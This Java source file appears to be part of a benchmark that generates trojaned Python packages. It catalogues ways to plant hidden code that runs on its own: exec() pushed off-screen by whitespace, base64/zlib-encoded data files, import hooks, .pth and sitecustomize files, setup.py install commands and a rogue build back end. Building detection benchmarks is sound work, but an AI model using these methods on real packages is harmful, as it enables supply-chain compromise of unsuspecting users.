package dev.assay.bench.trojan;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.Base64;
import java.util.Optional;

/// Where in a project code is put, and so when it would run.
enum Carrier {
  /// At the end of the package's `__init__`.
  INITIALIZER {
    @Override
    boolean put(Project project, String code) {
      return append(project, project.initializer(), code);
    }
  },
  /// In `__init__`, in a thread of its own.
  THREAD {
    @Override
    boolean put(Project project, String code) {
      String body = function("_warm_up", code);
      return append(
          project,
          project.initializer(),
          body
              + "import threading as _threading\n"
              + "_threading.Thread(target=_warm_up, daemon=True).start()\n");
    }
  },
  /// In `__init__`, when the interpreter ends.
  EXIT {
    @Override
    boolean put(Project project, String code) {
      return append(
          project,
          project.initializer(),
          function("_clean_up", code) + "import atexit as _atexit\n_atexit.register(_clean_up)\n");
    }
  },
  /// On the line of an import in `__init__`, pushed off the screen.
  OFF_SCREEN {
    @Override
    boolean put(Project project, String code) {
      String hidden = "exec(%s)".formatted(literal(code));
      Optional<String> path = project.initializer();
      return path.isPresent()
          && append(project, path, "import sys" + " ".repeat(240) + ";" + hidden + "\n");
    }
  },
  /// In a new module that `__init__` imports.
  NEW_MODULE {
    @Override
    boolean put(Project project, String code) {
      Optional<String> path = project.initializer();
      path.ifPresent(it -> project.put(folder(it) + "_runtime_support.py", code));
      return append(project, path, "from . import _runtime_support\n");
    }
  },
  /// At the top level of a module that lies deep.
  DEEP_MODULE {
    @Override
    boolean put(Project project, String code) {
      return append(project, project.deepModule(), code);
    }
  },
  /// In the constructor of a class that a deep module gains and uses.
  DEEP_CLASS {
    @Override
    boolean put(Project project, String code) {
      String body =
          "class _Registry:\n    def __init__(self):\n"
              + code.indent(8)
              + "\n\n_registry = _Registry()\n";
      return append(project, project.deepModule(), body);
    }
  },
  /// In a data file that a deep module reads and executes.
  DATA_FILE {
    @Override
    boolean put(Project project, String code) {
      Optional<String> path = project.deepModule();
      path.ifPresent(
          it ->
              project
                  .files()
                  .put(
                      folder(it) + "_tables.dat",
                      Base64.getEncoder().encode(Layer.deflated(code.getBytes(UTF_8)))));
      return append(
          project,
          path,
          """
          import base64 as _b, os as _o, zlib as _z
          with open(_o.path.join(_o.path.dirname(__file__), "_tables.dat"), "rb") as _h:
              exec(_z.decompress(_b.b64decode(_h.read())))
          """);
    }
  },
  /// A finder on `sys.meta_path` that acts at the next import.
  IMPORT_HOOK {
    @Override
    boolean put(Project project, String code) {
      String body =
          """
          import sys as _sys


          class _Finder:
              done = False

              def find_spec(self, name, path=None, target=None):
                  if not self.done:
                      type(self).done = True
          """
              + code.indent(12)
              + "        return None\n\n\n_sys.meta_path.insert(0, _Finder())\n";
      return append(project, project.initializer(), body);
    }
  },
  /// A line of a `.pth` file, run at every start of the interpreter.
  PATH_FILE {
    @Override
    boolean put(Project project, String code) {
      project.put("zz-support.pth", "import os; exec(%s)\n".formatted(literal(code)));
      return project.isWheel();
    }
  },
  /// A `.pth` file that imports a module beside it.
  PATH_FILE_MODULE {
    @Override
    boolean put(Project project, String code) {
      project.put("zz-support.pth", "import _zz_support\n");
      project.put("_zz_support.py", code);
      return project.isWheel();
    }
  },
  SITE_CUSTOMIZE {
    @Override
    boolean put(Project project, String code) {
      project.put("sitecustomize.py", code);
      return project.isWheel();
    }
  },
  /// A new command.
  ENTRY_POINT {
    @Override
    boolean put(Project project, String code) {
      Optional<String> initializer = project.initializer();
      Optional<String> record = project.metadata("RECORD");
      if (initializer.isEmpty() || record.isEmpty()) {
        return false;
      }
      String module = folder(initializer.get()) + "_diagnose.py";
      project.put(module, function("main", code));
      String points = folder(record.get()) + "entry_points.txt";
      String dotted = module.substring(0, module.length() - 3).replace('/', '.');
      String line = "support-diagnose = " + dotted + ":main\n";
      project.change(
          points,
          text ->
              text.contains("[console_scripts]\n")
                  ? text.replace("[console_scripts]\n", "[console_scripts]\n" + line)
                  : text + "\n[console_scripts]\n" + line);
      return true;
    }
  },
  /// At the beginning of `setup.py`.
  SETUP {
    @Override
    boolean put(Project project, String code) {
      String path = project.root() + "setup.py";
      // An import from the future must stay first.
      Optional<String> text = project.text(path).filter(it -> !it.contains("__future__"));
      text.ifPresent(it -> project.put(path, code + it));
      return !project.isWheel() && text.isPresent();
    }
  },
  /// In a command class of `setup.py`.
  INSTALL_COMMAND {
    @Override
    boolean put(Project project, String code) {
      String path = project.root() + "setup.py";
      Optional<String> text = project.text(path).filter(it -> it.contains("setup("));
      String head =
          """
          from setuptools.command.install import install as _install


          class _Install(_install):
              def run(self):
                  _install.run(self)
          """
              + code.indent(8)
              + "\n\n";
      text.ifPresent(
          it -> {
            int call = it.lastIndexOf("setup(");
            String changed =
                it.substring(0, call)
                    + "setup(cmdclass={\"install\": _Install}, "
                    + it.substring(call + 6);
            project.put(path, head + changed);
          });
      return !project.isWheel() && text.isPresent() && !text.get().contains("cmdclass");
    }
  },
  /// A build back end inside the source tree (PEP 517).
  BACK_END {
    @Override
    boolean put(Project project, String code) {
      String path = project.root() + "pyproject.toml";
      Optional<String> text = project.text(path).filter(it -> it.contains("build-backend"));
      if (project.isWheel() || text.isEmpty() || text.get().contains("backend-path")) {
        return false;
      }
      project.put(
          path,
          text.get()
              .replaceFirst(
                  "build-backend *= *[\"'][^\"']*[\"']",
                  "build-backend = \"_backend\"\nbackend-path = [\"_build\"]"));
      project.put(
          project.root() + "_build/_backend.py", "from setuptools.build_meta import *\n\n" + code);
      return true;
    }
  };

  /// Puts code into a project; false where the project has no such place.
  abstract boolean put(Project project, String code);

  private static boolean append(Project project, Optional<String> path, String code) {
    path.ifPresent(it -> project.change(it, text -> text.stripTrailing() + "\n\n\n" + code));
    return path.isPresent();
  }

  private static String function(String name, String code) {
    return "def " + name + "():\n" + code.indent(4) + "\n\n";
  }

  private static String folder(String path) {
    return path.substring(0, path.lastIndexOf('/') + 1);
  }

  /// A Python string literal.
  private static String literal(String text) {
    return '"' + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + '"';
  }
}
